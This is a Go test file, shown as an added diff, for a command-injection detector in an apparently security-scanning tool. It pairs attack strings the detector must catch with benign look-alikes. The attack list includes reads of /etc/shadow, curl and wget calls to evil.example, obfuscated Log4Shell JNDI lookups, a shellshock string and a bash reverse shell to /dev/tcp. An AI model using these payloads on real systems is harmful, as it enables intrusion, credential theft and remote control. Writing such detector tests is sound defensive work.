@@ -1,0 +1,56 @@
+package cmdi_test
+
+import (
+	"testing"
+
+	"github.com/meshwarden/meshwarden/internal/scan/cmdi"
+	"github.com/meshwarden/meshwarden/internal/scan/match/matchtest"
+)
+
+var family = matchtest.Family{
+	Find:     cmdi.Find,
+	Triggers: cmdi.Triggers,
+	Attacks: []matchtest.Attack{
+		{Rule: "separator_command", Text: "10.0.0.1; cat /etc/shadow"},
+		{Rule: "separator_command", Text: "; uname -a"},
+		{Rule: "separator_command", Text: "x|id"},
+		{Rule: "separator_command", Text: "a.png && curl http://evil.example/x"},
+		{Rule: "separator_command", Text: "$(wget evil.example)"},
+		{Rule: "separator_command", Text: "`whoami`"},
+		{Rule: "separator_command", Text: "x';/usr/bin/id;'"},
+		{Rule: "separator_command", Text: ";c'a't /etc/hosts"},
+		{Rule: "separator_command", Text: `;c\at /etc/hosts`},
+		{Rule: "separator_command", Text: "& ipconfig /all"},
+		{Rule: "separator_command", Text: "| powershell -enc AAAA"},
+		{Rule: "separator_command", Text: "\n/bin/ls -la"},
+		{Rule: "separator_command", Text: ";cat$IFS/etc/passwd"},
+		{Rule: "wildcard_path", Text: ";/b?n/c?t /e?c/h?sts"},
+		{Rule: "jndi_lookup", Text: "${jndi:ldap://evil.example/a}"},
+		{Rule: "jndi_lookup", Text: "x ${${lower:j}n${::-d}i:rmi://evil.example/a}"},
+		{Rule: "jndi_lookup", Text: "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}"},
+		{Rule: "shellshock", Text: "() { :;}; echo vulnerable"},
+		{Rule: "server_side_include", Text: `<!--#exec cmd="ls" -->`},
+		{Rule: "network_redirection", Text: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
+		{Rule: "code_function", Text: "system('cat /etc/hosts')"},
+		{Rule: "code_interpolation", Text: "${@print(md5(3))}"},
+		{Rule: "bare_command", Text: "cat /etc/shadow"},
+		{Rule: "disguised_command", Text: "c'a't /etc/hosts"},
+	},
+	Benign: []string{
+		"AT&T; cat food", "Run `ls -la` to list files.", "See `cat /etc/hosts` for names; then find the right one.",
+		"Thanks; who is next?", "a && b || c", "x := a | b; y++",
+		"Find the cat; sort it out.", "make && make install", "$ ps aux | grep sshd", "ls | sort | head -3",
+		"Salt & pepper, rm & co", "https://example.com/?a=1&id=2&sort=asc",
+		"cost: $(100)", "${name} and ${count}", "f(x); g(y); return", "git 2.40 released; test it", "AT&amp;T",
+		"Use /dev/tcp/host/port to open a socket", "eval is evil; never exec it.",
+		"if (a > b) { echo = 1; }", "The id; the name", "Please echo this and wait", "<!-- comment -->",
+		"`make test' or `make check'", "() => { return; }", "function() { x; }", "tea; date cake; time",
+	},
+	Worst: []string{";", "|", "&", "`", "$(", "${", "${${", "\n", "\\n", ";cat ", ";cat /", ";'c", "a`b", "() {", "(", "system(", "<!--#", "$ifs", "/dev/tcp/", ";/?", "`a`;", ";id 'x", "${j"},
+}
+
+func TestFamily(t *testing.T) { matchtest.Run(t, family) }
+
+func FuzzFind(f *testing.F) { matchtest.Fuzz(f, family, false) }
+
+func BenchmarkFind(b *testing.B) { matchtest.Bench(b, family) }
